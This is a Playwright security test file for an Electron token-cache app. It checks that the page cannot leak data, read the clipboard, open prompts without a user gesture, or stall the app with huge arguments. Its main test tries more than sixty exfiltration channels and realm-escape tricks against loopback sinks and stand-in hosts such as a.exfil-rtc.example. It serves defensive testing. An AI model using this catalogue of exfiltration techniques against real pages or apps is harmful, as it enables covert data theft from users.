/**
 * [Note: the window has no network] Every way out of a page that is known, tried at once, with the proof at the socket:
 * listeners for UDP and TCP on this computer, names that only a look-up would tell, and Chromium's own network log.
 */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { existsSync, readFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { answerDialogs, test } from './app.ts';

/** Listens on loopback for anything that arrives. */
async function sinks() {
  const packets: number[] = [];
  const udp = createSocket('udp4');
  udp.on('message', (message) => packets.push(message.length));
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  const connections: string[] = [];
  const tcp = createServer((socket) => {
    connections.push('connected');
    socket.on('data', (data) => connections.push(data.toString('latin1').slice(0, 80)));
    socket.on('error', () => undefined);
  });
  await once(tcp.listen(0, '127.0.0.1'), 'listening');
  return {
    packets,
    connections,
    ports: { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port },
    close() {
      udp.close();
      tcp.close();
    },
  };
}

/** Runs in the page. Each way is tried; what throws is refused, what does not is told by the sinks. */
async function tryEveryWay(window: Page, ports: { udp: number; tcp: number }): Promise<string[]> {
  return window.evaluate(async ({ udp, tcp }) => {
    const tried: string[] = [];
    const web = `http://127.0.0.1:${tcp}`;
    const attempt = async (name: string, way: () => unknown): Promise<void> => {
      tried.push(name);
      try {
        await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 1500))]);
      } catch {
        // Refused.
      }
    };
    const peer = (urls: string, policy: RTCIceTransportPolicy = 'all') =>
      new Promise((resolve) => {
        const connection = new RTCPeerConnection({
          iceServers: [{ urls, username: 'avery.howard@contoso.example', credential: 'x' }],
          iceTransportPolicy: policy,
        });
        connection.createDataChannel('x');
        void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
        setTimeout(resolve, 1200);
      });
    const link = (rel: string, href: string, more: object = {}, page = document): void =>
      page.head.append(Object.assign(page.createElement('link'), { rel, href, ...more }));
    const element = (tag: string, fields: object): HTMLElement => {
      const made = Object.assign(document.createElement(tag), fields);
      document.body.append(made);
      return made;
    };

    await attempt('WebRTC STUN over UDP', () => peer(`stun:127.0.0.1:${udp}`));
    await attempt('WebRTC TURN over UDP', () => peer(`turn:127.0.0.1:${udp}`, 'relay'));
    await attempt('WebRTC TURN over TCP', () => peer(`turn:127.0.0.1:${tcp}?transport=tcp`, 'relay'));
    await attempt('WebRTC TURN over TLS', () => peer(`turns:127.0.0.1:${tcp}?transport=tcp`, 'relay'));
    await attempt('WebRTC STUN by name', () => peer('stun:a.exfil-rtc.example:3478'));
    await attempt('WebRTC TURN by name', () => peer('turn:a.exfil-turn.example:3478?transport=tcp', 'relay'));
    await attempt('WebRTC remote candidate', async () => {
      const [a, b] = [new RTCPeerConnection(), new RTCPeerConnection()];
      a.createDataChannel('x');
      await a.setLocalDescription(await a.createOffer());
      await b.setRemoteDescription(a.localDescription!);
      await b.setLocalDescription(await b.createAnswer());
      await a.setRemoteDescription(b.localDescription!);
      for (const protocol of ['udp', 'tcp']) {
        const port = protocol === 'udp' ? udp : tcp;
        const more = protocol === 'tcp' ? ' tcptype passive' : '';
        const candidate = `candidate:1 1 ${protocol} 2122260223 127.0.0.1 ${port} typ host${more}`;
        await a.addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
      }
      await a.addIceCandidate({
        candidate: `candidate:2 1 udp 2122260223 a.exfil-mdns.local ${udp} typ host`,
        sdpMid: '0',
        sdpMLineIndex: 0,
      });
      await new Promise((resolve) => setTimeout(resolve, 1200));
    });
    // Realms of their own, in which nothing was removed.
    const realmOf = async (name: string, make: () => Window | null | undefined) =>
      attempt(`WebRTC in ${name}`, async () => {
        const Connection = (make() as (Window & { RTCPeerConnection?: typeof RTCPeerConnection }) | null)
          ?.RTCPeerConnection;
        if (Connection === undefined) return;
        const connection = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
        connection.createDataChannel('x');
        await connection.setLocalDescription(await connection.createOffer());
        await connection.addIceCandidate({
          candidate: `candidate:2 1 udp 2122260223 a.exfil-realm.local ${udp} typ host`,
          sdpMid: '0',
          sdpMLineIndex: 0,
        });
        await new Promise((resolve) => setTimeout(resolve, 1200));
      });
    await realmOf('a frame', () => (element('iframe', {}) as HTMLIFrameElement).contentWindow);
    await realmOf(
      'an object',
      () => (element('object', { data: 'about:blank' }) as HTMLObjectElement).contentWindow,
    );
    await realmOf('a frame by namespace', () => {
      const frame = document.createElementNS('http://www.w3.org/1999/xhtml', 'x:iframe') as HTMLIFrameElement;
      document.body.append(frame);
      return frame.contentWindow;
    });
    await realmOf('a frame with a hostile name', () => {
      let reads = 0;
      const name = { toString: () => (reads++ === 0 ? 'p' : 'iframe') } as unknown as string;
      const frame = document.createElement(name) as HTMLIFrameElement;
      document.body.append(frame);
      return frame.contentWindow;
    });
    await realmOf('a frame with replaced built-ins', () => {
      RegExp.prototype.exec = () => null;
      RegExp.prototype.test = () => false;
      return (element('iframe', {}) as HTMLIFrameElement).contentWindow;
    });
    await realmOf('a custom element', () => {
      class Frame extends HTMLIFrameElement {}
      customElements.define('x-frame', Frame, { extends: 'iframe' });
      const frame = new Frame();
      document.body.append(frame);
      return frame.contentWindow;
    });
    await realmOf('a parsed frame', () => {
      document.body.insertAdjacentHTML('beforeend', '<iframe id="parsed"></iframe>');
      return document.querySelector<HTMLIFrameElement>('#parsed')?.contentWindow;
    });
    await realmOf('another document', () => {
      const frame = new Document().createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
      document.body.append(document.adoptNode(frame));
      return (frame as HTMLIFrameElement).contentWindow;
    });
    await realmOf('a transformation', () => {
      const sheet = document.implementation.createDocument(
        'http://www.w3.org/1999/XSL/Transform',
        'xsl:stylesheet',
        null,
      );
      const template = sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:template');
      template.setAttribute('match', '/');
      const made = sheet.createElementNS('http://www.w3.org/1999/XSL/Transform', 'xsl:element');
      made.setAttribute('name', 'iframe');
      template.append(made);
      sheet.documentElement.setAttribute('version', '1.0');
      sheet.documentElement.append(template);
      const processor = new XSLTProcessor();
      processor.importStylesheet(sheet);
      document.body.append(processor.transformToFragment(sheet, document));
      return document.querySelector('iframe')?.contentWindow;
    });
    await realmOf('a window', () => open('about:blank'));
    await attempt('dns-prefetch', () => link('dns-prefetch', 'https://a.exfil-prefetch.example'));
    await attempt('preconnect', () => link('preconnect', 'https://a.exfil-preconnect.example'));
    await attempt('preconnect to loopback', () => link('preconnect', web));
    for (const rel of [
      'prefetch',
      'preload',
      'modulepreload',
      'icon',
      'manifest',
      'stylesheet',
      'prerender',
      'next',
    ]) {
      await attempt(`link ${rel}`, () => link(rel, `${web}/${rel}`, { as: 'image' }));
      await attempt(`link ${rel} by name`, () => link(rel, `https://a.exfil-${rel}.example/`));
    }
    await attempt('dns-prefetch in a frame', async () => {
      const frame = element('iframe', {}) as HTMLIFrameElement;
      await new Promise((resolve) => setTimeout(resolve, 300));
      link('dns-prefetch', 'https://a.exfil-frame.example', {}, frame.contentDocument!);
    });
    await attempt('dns-prefetch in srcdoc', () =>
      element('iframe', { srcdoc: '<link rel="dns-prefetch" href="https://a.exfil-srcdoc.example">' }),
    );
    await attempt('dns-prefetch control and anchors', () => {
      const meta = Object.assign(document.createElement('meta'), { content: 'on' });
      meta.httpEquiv = 'x-dns-prefetch-control';
      document.head.append(meta);
      element('a', { href: 'https://a.exfil-anchor.example/', textContent: 'x' });
    });
    await attempt('ping', () => {
      const anchor = element('a', { href: '#x' });
      anchor.setAttribute('ping', `${web}/ping`);
      anchor.click();
    });
    await attempt('beacon', () => navigator.sendBeacon(`${web}/beacon`, 'x'));
    await attempt('fetch', () => fetch(`${web}/fetch`));
    await attempt('fetch without CORS', () => fetch(`${web}/fetch`, { mode: 'no-cors', keepalive: true }));
    await attempt('XMLHttpRequest', () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${web}/xhr`);
      request.send();
    });
    await attempt('WebSocket', () => new WebSocket(`ws://127.0.0.1:${tcp}/`));
    await attempt('EventSource', () => new EventSource(`${web}/events`));
    await attempt('WebTransport', () => new WebTransport(`https://127.0.0.1:${udp}/x`).ready);
    await attempt('worker', () => new Worker(`${web}/worker.js`));
    await attempt('worker of a blob', () => {
      const code = `fetch('${web}/in-worker'); new WebSocket('ws://127.0.0.1:${tcp}/in-worker')`;
      return new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    });
    await attempt('shared worker', () => new SharedWorker(`${web}/shared.js`));
    await attempt('service worker', () => navigator.serviceWorker.register(`${web}/service.js`));
    await attempt('script', () => element('script', { src: `${web}/script.js` }));
    await attempt('import()', () => import(`${web}/module.js`));
    await attempt('image', () => element('img', { src: `${web}/image`, srcset: `${web}/set 2x` }));
    await attempt('video', () =>
      element('video', { src: `${web}/video`, poster: `${web}/poster`, preload: 'auto' }),
    );
    await attempt('audio', () => element('audio', { src: `${web}/audio`, preload: 'auto' }));
    await attempt('object', () => element('object', { data: `${web}/object` }));
    await attempt('embed', () => element('embed', { src: `${web}/embed` }));
    await attempt('frame', () => element('iframe', { src: `${web}/frame` }));
    await attempt('input of an image', () => element('input', { type: 'image', src: `${web}/input` }));
    await attempt('track', () =>
      element('video', {}).append(
        Object.assign(document.createElement('track'), { src: `${web}/track`, default: true }),
      ),
    );
    await attempt('CSS', () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${web}/css); cursor: url(${web}/cursor), auto }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    });
    await attempt('style attribute', () =>
      element('div', {}).style.setProperty('background', `url(${web}/style)`),
    );
    await attempt('font', () => new FontFace('x', `url(${web}/font)`).load());
    await attempt('SVG', () => {
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', `${web}/svg`);
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      svg.append(image);
      document.body.append(svg);
    });
    await attempt('speculation rules', () => {
      const rules = { prefetch: [{ source: 'list', urls: ['https://a.exfil-speculation.example/'] }] };
      element('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
    });
    await attempt('form', () => {
      const form = element('form', { action: `${web}/form`, method: 'post' }) as HTMLFormElement;
      form.submit();
    });
    await attempt('open', () => open(`${web}/open`));
    await attempt('open by name', () => open('https://a.exfil-open.example/'));
    await attempt('location', () => void (location.href = `${web}/location`));
    await attempt('location by name', () => void (location.href = 'https://a.exfil-location.example/'));
    await attempt('refresh', () => {
      const meta = Object.assign(document.createElement('meta'), { content: `0;url=${web}/refresh` });
      meta.httpEquiv = 'refresh';
      document.head.append(meta);
    });
    await attempt('download', () => element('a', { href: `${web}/download`, download: 'x' }).click());
    await attempt('report', () => {
      const meta = Object.assign(document.createElement('meta'), {
        content: `img-src 'none'; report-uri ${web}/report`,
      });
      meta.httpEquiv = 'Content-Security-Policy';
      document.head.append(meta);
    });
    await attempt('speech', () => speechSynthesis.speak(new SpeechSynthesisUtterance('x')));
    await attempt('federated sign-in', () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: `${web}/fedcm`, clientId: 'x' }] },
      } as never),
    );
    await attempt('payment', () =>
      new PaymentRequest([{ supportedMethods: `${web}/pay` }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }).show(),
    );
    await new Promise((resolve) => setTimeout(resolve, 1500));
    return tried;
  }, ports);
}

test('@packaged no way out of the page reaches a socket or has a name looked up', async ({
  start,
  keyring,
}) => {
  test.setTimeout(180_000);
  const here = await sinks();
  const log = join(keyring.env['HOME'] ?? '', 'net-log.json');
  const packaged = test.info().project.name.includes('packaged');
  // A packaged app refuses the switch that writes a log: there the sinks alone are the proof.
  const started = await start(packaged ? ['--demo'] : ['--demo', `--log-net-log=${log}`]);
  await started.window.getByRole('listbox', { name: 'Accounts' }).waitFor();
  const tried = await tryEveryWay(started.window, here.ports);
  expect(tried.length).toBeGreaterThan(60);
  await started.quit();
  here.close();
  expect({ udp: here.packets, tcp: here.connections }).toEqual({ udp: [], tcp: [] });
  if (packaged) return;

  await expect.poll(() => existsSync(log) && readFileSync(log, 'utf8').length).toBeGreaterThan(1000);
  const text = readFileSync(log, 'utf8');
  const { constants, events } = JSON.parse(
    text.trimEnd().endsWith('}') ? text : text.replace(/,\s*$/, ']}'),
  ) as {
    constants: { logEventTypes: Record<string, number> };
    events: { type: number; params?: { address?: string; host?: string } }[];
  };
  const kinds = new Map(Object.entries(constants.logEventTypes).map(([name, type]) => [type, name]));
  const met = (pattern: RegExp) =>
    events
      .filter(({ type }) => pattern.test(kinds.get(type) ?? ''))
      .map(({ type, params }) => ({ kind: kinds.get(type), params }));
  expect(met(/^HOST_RESOLVER_MANAGER_(?:REQUEST|JOB)$/).map(({ params }) => params?.host)).toEqual([]);
  expect(met(/^TCP_CONNECT_ATTEMPT$/)).toEqual([]);
  expect(met(/^UDP_BYTES_SENT$/)).toEqual([]);
  expect(met(/^HOST_RESOLVER_(?:SYSTEM_TASK|DNS_TASK)$/)).toEqual([]);
  expect([...new Set(text.match(/exfil-[\w-]+/g) ?? [])]).toEqual([]);
});

test('a script reads no clipboard; the user’s own Paste works', async ({ start }) => {
  const started = await start(['--demo']);
  const { app, window, quit } = started;
  await app.evaluate(({ clipboard }) => clipboard.writeText('password-of-the-user'));
  const read = await window.evaluate(async () => {
    const field = document.createElement('textarea');
    field.id = 'attack';
    document.body.append(field);
    field.focus();
    // oxlint-disable-next-line typescript/no-deprecated -- what an attack would use
    document.execCommand('paste');
    await new Promise((resolve) => setTimeout(resolve, 300));
    const pasted = field.value;
    const answer = await navigator.clipboard.readText().catch(() => '');
    field.focus();
    return [pasted, answer];
  });
  expect(read).toEqual(['', '']);
  expect(await app.evaluate(({ clipboard }) => clipboard.readText())).toBe('password-of-the-user');
  await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]!.webContents.paste());
  await expect
    .poll(() => window.evaluate(() => document.querySelector<HTMLTextAreaElement>('#attack')?.value))
    .toBe('password-of-the-user');
  await quit();
});

test('nothing opens without the user’s doing, one at a time, and less and less after a No', async ({
  start,
}) => {
  const started = await start(['--demo']);
  const { app, window, quit } = started;
  await window.getByRole('listbox', { name: 'Accounts' }).waitFor();
  const asked = await answerDialogs(app, { agree: false });
  await app.evaluate(({ shell }) => {
    const opened: string[] = [];
    Object.assign(globalThis, { openedInBrowser: opened });
    Object.assign(shell, { openExternal: (url: string) => Promise.resolve(void opened.push(url)) });
  });
  /** Asks for everything that opens something, for two seconds. */
  const flood = () =>
    window.evaluate(async () => {
      const { tokenCache, app: bridge } = window as unknown as Record<
        string,
        Record<string, (...args: unknown[]) => Promise<never>>
      >;
      const list = (await tokenCache!['accounts']!()) as unknown as { value: { accounts: { id: string }[] } };
      const tokens = (await tokenCache!['tokens']!(list.value.accounts[0]!.id)) as unknown as {
        value: { id: string }[];
      };
      const codes = new Set<string>();
      const until = Date.now() + 2000;
      let asks = 0;
      while (Date.now() < until) {
        const answers = (await Promise.all([
          tokenCache!['reveal']!(tokens.value[0]!.id),
          tokenCache!['copy']!(tokens.value[0]!.id),
          tokenCache!['chooseImport']!(),
          tokenCache!['exportAll']!('correct horse battery staple 42'),
          bridge!['openSignInPage']!(),
        ])) as unknown as { ok: boolean; error?: { code: string } }[];
        asks += answers.length;
        for (const { error } of answers) if (error !== undefined) codes.add(error.code);
      }
      return { asks, codes: [...codes] };
    });
  // Wait until the click that tests may have made is no longer good.
  await new Promise((resolve) => setTimeout(resolve, 5_100));
  const alone = await flood();
  expect(alone.asks).toBeGreaterThan(20);
  expect(alone.codes).toContain('no_user_gesture');
  expect(await asked()).toEqual([]);
  expect(
    await app.evaluate(() => (globalThis as unknown as { openedInBrowser: string[] }).openedInBrowser),
  ).toEqual([]);

  // One click, one question at most, however many requests follow it.
  await window.mouse.click(5, 5);
  const clicked = await flood();
  expect((await asked()).length).toBeLessThanOrEqual(1);
  expect(clicked.codes.some((code) => code === 'asked_too_often' || code === 'no_user_gesture')).toBe(true);
  await quit();
});

test('an argument that is too much is refused before it is cloned, and main goes on', async ({ start }) => {
  const started = await start(['--demo']);
  const { app, window, quit } = started;
  const longest = app.evaluate(async () => {
    let [last, most] = [performance.now(), 0];
    const until = last + 6000;
    while (performance.now() < until) {
      await new Promise((resolve) => setTimeout(resolve, 5));
      most = Math.max(most, performance.now() - last);
      last = performance.now();
    }
    return most;
  });
  const answers = await window.evaluate(async () => {
    const { tokenCache } = window as unknown as {
      tokenCache: Record<string, (arg: unknown) => Promise<unknown>>;
    };
    const ask = async (arg: unknown) => JSON.stringify(await tokenCache['search']!(arg).catch(String));
    let deep: unknown = [];
    for (let level = 0; level < 500; level++) deep = [deep];
    return [
      await ask('x'.repeat(64 * 1024 * 1024)),
      await ask(Array.from({ length: 300_000 }, (_, index) => ({ index }))),
      await ask(deep),
      await ask(new Uint8Array(64 * 1024 * 1024)),
    ];
  });
  for (const answer of answers) expect(answer).not.toMatch(/"ok":true/);
  expect(await longest).toBeLessThan(1000);
  await quit();
});
